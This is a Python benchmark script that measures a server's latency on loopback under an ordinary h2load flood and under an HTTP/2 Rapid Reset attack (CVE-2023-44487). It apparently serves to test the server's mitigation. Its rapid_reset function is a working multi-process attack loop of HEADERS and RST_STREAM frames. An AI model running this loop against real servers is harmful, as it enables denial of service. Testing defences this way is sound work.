#!/usr/bin/python3
"""Legitimate latency under HTTP/2 abuse, against a running server (loopback only):

    bench/h2_abuse.py PORT [SECONDS]

Measures sequential client_credentials-free GETs of /.well-known/jwks.json (one new HTTP/2 connection each,
as a client would open) for SECONDS under each load, and prints the median and 95th percentile:
  idle            nothing else
  flood           h2load -c4 -m32 on the same URL (an ordinary request flood)
  rapid-reset     4 connections sending HEADERS + RST_STREAM in a loop (CVE-2023-44487), reconnecting after
                  each GOAWAY
The issue's goal: rapid-reset latency within 2x of the flood's. Server CPU: read it with `ps -o time` around.
"""

import socket
import statistics
import subprocess
import sys
import threading
import time

import h2.config
import h2.connection
import h2.errors
import h2.events

PORT = int(sys.argv[1])
SECONDS = float(sys.argv[2]) if len(sys.argv) > 2 else 5
PATH = "/.well-known/jwks.json"


def one_request():
    start = time.perf_counter()
    s = socket.create_connection(("127.0.0.1", PORT))
    c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    c.initiate_connection()
    c.send_headers(1, [(":method", "GET"), (":scheme", "http"), (":authority", "x"), (":path", PATH)], end_stream=True)
    s.sendall(c.data_to_send())
    done = False
    while not done:
        data = s.recv(65536)
        if not data:
            break
        for e in c.receive_data(data):
            if isinstance(e, h2.events.StreamEnded) and e.stream_id == 1:
                done = True
    s.close()
    return (time.perf_counter() - start) * 1000


def rapid_reset(stop, counter):
    while not stop.is_set():
        try:
            s = socket.create_connection(("127.0.0.1", PORT))
            c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
            c.initiate_connection()
            sid = 1
            while not stop.is_set():
                for _ in range(50):
                    c.send_headers(sid, [(":method", "GET"), (":scheme", "http"), (":authority", "x"), (":path", PATH)],
                                   end_stream=True)
                    c.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
                    sid += 2
                s.sendall(c.data_to_send())
                counter[0] += 50
            s.close()
        except OSError:
            counter[1] += 1  # a GOAWAY and close: reconnect


def measure(label):
    times = []
    deadline = time.monotonic() + SECONDS
    while time.monotonic() < deadline:
        times.append(one_request())
    times.sort()
    print(f"{label:12s} n={len(times):5d} median {statistics.median(times):7.2f} ms  p95 {times[int(len(times) * 0.95)]:7.2f} ms")


if len(sys.argv) > 3 and sys.argv[3] == "attack":  # one attacking process (the measuring one must not share its GIL)
    stop, counter = threading.Event(), [0, 0]
    threading.Timer(SECONDS + 1, stop.set).start()
    rapid_reset(stop, counter)
    print(counter[0], counter[1])
    sys.exit(0)

measure("idle")
flood = subprocess.Popen(["h2load", "-c4", "-m32", "-D", str(int(SECONDS) + 2), f"http://127.0.0.1:{PORT}{PATH}"],
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
time.sleep(1)
measure("flood")
flood.wait()
attackers = [subprocess.Popen([sys.executable, sys.argv[0], str(PORT), str(SECONDS + 1), "attack"], stdout=subprocess.PIPE, text=True)
             for _ in range(4)]
time.sleep(1)
measure("rapid-reset")
sent = closed = 0
for a in attackers:
    out = a.communicate()[0].split()
    sent, closed = sent + int(out[0]), closed + int(out[1])
print(f"rapid reset: {sent} HEADERS+RST sent by 4 processes, {closed} connections closed by the server (GOAWAY)")
